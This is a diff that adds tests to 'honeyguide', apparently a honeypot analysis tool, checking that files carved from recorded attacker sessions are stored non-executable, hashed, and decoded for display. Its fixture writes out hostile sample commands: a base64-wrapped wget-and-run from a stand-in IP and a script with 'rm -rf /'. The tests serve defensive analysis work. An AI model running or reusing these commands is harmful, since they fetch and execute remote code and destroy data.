@@ -1,5 +1,7 @@
 """`honeyguide streams`: recorded conversations of the store or of a path, listed, shown, and written as they were."""
 
+import base64
+import hashlib
 import json
 import tarfile
 from collections.abc import Callable
@@ -171,3 +173,45 @@ def test_pasted_text_is_named_with_what_it_is_and_is_not(honeyguide: Command) ->
     assert "no sign of a break-in" in shown
     found = rows(honeyguide("streams", "show", "--text", "-", "--json", stdin=pasted))
     assert [row["protocol"] for row in found] == ["tls", "rdp", "ncp", None, "ldap", "tds", "mongodb"]
+
+
+def literal(data: bytes) -> bytes:
+    return b"stream = [('in', b'" + b"".join(b"\\x%02x" % byte for byte in data) + b"')]"
+
+
+@pytest.fixture
+def upload(tmp_path: Path) -> Path:
+    """A recording of somebody who sends a script, and a command wrapped in base64."""
+    wrapped = base64.b64encode(b"wget http://198.51.100.7/x -O /tmp/x; sh /tmp/x")
+    file = tmp_path / WEB
+    file.write_bytes(literal(b"POST /?c=" + wrapped + b" HTTP/1.1\r\n\r\n#!/bin/sh\nrm -rf /\nwget http://198.51.100.7/x\n"))
+    return file
+
+
+def test_files_are_carved_under_names_of_ours_and_nobody_may_run_them(honeyguide: Command, upload: Path, tmp_path: Path) -> None:
+    answer = honeyguide("streams", "show", upload, "--carve", tmp_path / "out")
+    (carved,) = (tmp_path / "out").iterdir()
+    assert carved.name == f"{WEB}.in-1.sh.carved"
+    assert carved.read_bytes() == b"#!/bin/sh\nrm -rf /\nwget http://198.51.100.7/x\n"
+    assert carved.stat().st_mode & 0o777 == 0o600
+    assert hashlib.sha256(carved.read_bytes()).hexdigest() in answer.stdout
+    (tmp_path / DESK).write_bytes(RECORDINGS[DESK])
+    assert honeyguide("streams", "show", tmp_path / DESK, "--carve", tmp_path / "none").stdout == "No file was found in it.\n"
+
+
+def test_layers_and_strings_are_shown(honeyguide: Command, upload: Path) -> None:
+    shown = honeyguide("streams", "show", upload).stdout
+    assert "layer 1, base64 at 9–73, 47 bytes: wget http://198.51.100.7/x -O /tmp/x; sh /tmp/x" in shown
+    told = honeyguide("streams", "show", upload, "--strings").stdout.splitlines()
+    assert "the peer, 96: rm -rf /" in told
+
+
+def test_a_conversation_is_one_document(honeyguide: Command, folder: Path) -> None:
+    answer = honeyguide("streams", "show", WEB, "--path", folder, "--json")
+    found = json.loads(answer.stdout)
+    assert [name for name in found if name in KEYS.split()] == KEYS.split()
+    assert found["schema"] == "honeyguide.stream/1"
+    assert [(one["direction"], one["bytes"]) for one in found["turns"]] == [("in", 24), ("out", 26)]
+    asked = found["messages"][0]
+    assert (asked["direction"], asked["start"], asked["end"]) == ("in", 0, 24)
+    assert "\x1b" not in answer.stdout
